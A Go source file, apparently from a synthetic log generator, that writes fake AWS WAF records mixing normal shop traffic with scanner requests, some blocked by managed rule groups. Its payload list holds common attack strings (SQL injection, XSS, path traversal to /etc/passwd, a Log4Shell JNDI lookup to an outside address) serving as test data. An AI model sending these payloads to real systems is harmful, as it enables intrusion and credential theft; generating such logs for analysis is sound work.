package corpus

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"logquarry/cmd/logmaker/logfile"
	"logquarry/cmd/logmaker/record"
)

const webRecordsPerFile = 800

// visitor is a client and what all its requests share.
type visitor struct {
	ip, country, agent string
	ja4, cookie        string
	scanner            bool
}

var (
	countries = []string{"US", "DE", "GB", "FR", "NL", "JP", "IN", "BR", "CA", "AU", "PL", "SE"}
	browsers  = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:136.0) Gecko/20100101 Firefox/136.0",
		"Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.6998.39 Mobile Safari/537.36",
		"ExampleShop/5.2 (iOS 18.3; build 812)",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	}
	scanners = []string{"curl/8.5.0", "python-requests/2.32.3", "sqlmap/1.8.11#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x",
		"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "-"}
	pages    = []string{"/", "/api/v1/cart", "/api/v1/products", "/search", "/product/%d", "/static/js/app.%d.js", "/api/v1/session", "/img/%d.webp", "/checkout", "/account/orders", "/api/v2/recommendations", "/health"}
	attacks  = []string{"/.env", "/wp-login.php", "/phpinfo.php", "/.git/config", "/search", "/admin/config.php", "/actuator/env", "/cgi-bin/luci", "/api/v1/products", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"}
	payloads = []string{"id=1%27%20OR%20%271%27=%271", "q=%3Cscript%3Ealert(1)%3C/script%3E", "file=../../../../etc/passwd", "id=1 UNION SELECT username,password FROM users--", "cmd=%24%7Bjndi:ldap://198.51.100.9/a%7D", ""}
)

const (
	ipList    = "AWS#AWSManagedRulesAmazonIpReputationList"
	coreRules = "AWS#AWSManagedRulesCommonRuleSet"
	sqliRules = "AWS#AWSManagedRulesSQLiRuleSet#Version_2.0"
)

// WAF writes 240,000 × scale records of two web ACLs, a file each five minutes.
func WAF(dir string, scale float64) (logfile.Totals, error) {
	total := int(240_000 * scale)
	files := (total + webRecordsPerFile - 1) / webRecordsPerFile
	return logfile.WriteAll(dir, files, func(i int, buf []byte) logfile.Plain {
		r := source(kindWAF, uint64(i))
		n := min(webRecordsPerFile, total-i*webRecordsPerFile)
		at := start.Add(time.Duration(i/2) * 5 * time.Minute)
		account, region, acl := accounts[0], regions[i%2], []string{"shop-web", "api-eu"}[i%2]
		buf = appendWeb(buf, r, account, region, acl, at, n)
		return logfile.Plain{Key: logfile.WAFKey(account, region, acl, at, record.Hex(r, 8)), Data: buf, Records: n}
	})
}

func newVisitor(r *rand.Rand) visitor {
	v := visitor{ip: publicNets[r.IntN(3)] + strconv.Itoa(1+r.IntN(254)), country: countries[skew(r, len(countries))],
		agent: browsers[skew(r, len(browsers))], ja4: "t13d1516h2_" + record.Hex(r, 12) + "_" + record.Hex(r, 12)}
	if r.IntN(20) == 0 {
		v.ip = "2001:db8:" + record.Hex(r, 4) + "::" + record.Hex(r, 3)
	}
	if r.IntN(14) == 0 {
		v.scanner, v.agent = true, scanners[r.IntN(len(scanners))]
	}
	v.cookie = "sid=" + record.Base62(r, 32) + "; aws-waf-token=" + record.UUID(r) + ":" + record.Base64(r, 40)
	return v
}

func appendWeb(b []byte, r *rand.Rand, account, region, acl string, from time.Time, n int) []byte {
	visitors := make([]visitor, 400)
	for i := range visitors {
		visitors[i] = newVisitor(r)
	}
	id := "arn:aws:wafv2:" + region + ":" + account + ":regional/webacl/" + acl + "/11111111-2222-3333-4444-555555555555"
	balancer := account + "-app/" + acl + "/50dc6c495c0c9188"
	for i := range n {
		v := &visitors[skew(r, len(visitors))]
		at := from.Add(time.Duration(i*300_000/n+r.IntN(200)) * time.Millisecond)
		w := record.Web{Time: at, WebACL: id, Balancer: balancer, Client: v.ip, Country: v.country, JA4: v.ja4,
			RequestID: fmt.Sprintf("1-%08x-%s", at.Unix(), record.Hex(r, 24)),
			Labels:    []string{"awswaf:clientip:geo:country:" + v.country, "awswaf:clientip:geo:region:" + v.country + "-" + []string{"VA", "CA", "BE", "NW"}[r.IntN(4)]}}
		if acl == "shop-web" {
			w.Groups = append(w.Groups, record.RuleGroup{ID: ipList}, record.RuleGroup{ID: sqliRules})
		}
		if v.scanner {
			attack(&w, r, v)
		} else {
			visit(&w, r, v)
		}
		b = w.Append(b)
	}
	return b
}

func visit(w *record.Web, r *rand.Rand, v *visitor) {
	w.URI = pages[skew(r, len(pages))]
	if strings.Contains(w.URI, "%d") {
		w.URI = fmt.Sprintf(w.URI, r.IntN(5000))
	}
	if w.URI == "/search" {
		w.Args = "q=" + functionNames[r.IntN(len(functionNames))] + "&page=" + strconv.Itoa(r.IntN(9))
	}
	w.Headers = [][2]string{{"host", "shop.example.com"}, {"user-agent", v.agent}, {"accept", "*/*"}, {"accept-encoding", "gzip, br"}, {"cookie", v.cookie}}
	if r.IntN(6) == 0 {
		w.Method, w.BodySize = "POST", 20+r.IntN(4000)
		w.Headers = append(w.Headers, [2]string{"content-type", "application/json"}, [2]string{"content-length", strconv.Itoa(w.BodySize)})
	}
	if r.IntN(40) == 0 {
		w.Counted = []record.RuleHit{{Rule: "count-large-body", Action: "COUNT"}}
	}
	if r.IntN(60) == 0 {
		w.Rule, w.RuleType, w.Action = "login-captcha", "REGULAR", "CAPTCHA"
		w.Captcha = `{"responseCode":405,"failureReason":"TOKEN_MISSING"}`
		w.SentStatus = 405
	}
}

func attack(w *record.Web, r *rand.Rand, v *visitor) {
	w.Version = "HTTP/1.1"
	w.URI, w.Args = attacks[r.IntN(len(attacks))], payloads[r.IntN(len(payloads))]
	w.Headers = [][2]string{{"Host", "shop.example.com"}, {"User-Agent", v.agent}, {"Accept", "*/*"}, {"X-Forwarded-For", "10." + strconv.Itoa(r.IntN(255)) + ".1.1"}}
	switch x := r.IntN(10); {
	case x < 2:
		w.Rule, w.RuleType, w.Action = "block-bad-ips", "MANAGED_RULE_GROUP", "BLOCK"
		group(w, ipList).Terminating = &record.RuleHit{Rule: "AWSManagedIPReputationList", Action: "BLOCK"}
		w.Labels = append(w.Labels, "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList")
	case x < 5:
		m := []record.Match{{Condition: "SQL_INJECTION", Sensitivity: "HIGH", Location: "ALL_QUERY_ARGS", Data: []string{"1", "UNION", "SELECT"}, Field: "id"}}
		w.Rule, w.RuleType, w.Action, w.Matches = "sqli", "MANAGED_RULE_GROUP", "BLOCK", m
		group(w, sqliRules).Terminating = &record.RuleHit{Rule: "SQLi_QUERYARGUMENTS", Action: "BLOCK", Matches: m}
		w.Labels = append(w.Labels, "awswaf:managed:aws:sql-database:SQLi_QueryArguments")
	case x < 7:
		g := group(w, coreRules)
		g.Counted = []record.RuleHit{{Rule: "GenericLFI_QUERYARGUMENTS", Action: "COUNT", Overridden: "BLOCK"}}
		g.Excluded = []string{"SizeRestrictions_BODY"}
		w.Labels = append(w.Labels, "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments")
	case x < 8:
		w.Rule, w.RuleType, w.Action, w.SentStatus = "rate-limit", "RATE_BASED", "BLOCK", 429
		w.Rates = []record.RateRule{{ID: w.WebACL + "/rule/rate-limit", Name: "rate-limit", Limit: v.ip, Max: 2000}}
		w.Groups = nil
	}
}

// group is the request's entry of a rule group, added where it is not there yet.
func group(w *record.Web, id string) *record.RuleGroup {
	for i := range w.Groups {
		if w.Groups[i].ID == id {
			return &w.Groups[i]
		}
	}
	w.Groups = append(w.Groups, record.RuleGroup{ID: id})
	return &w.Groups[len(w.Groups)-1]
}
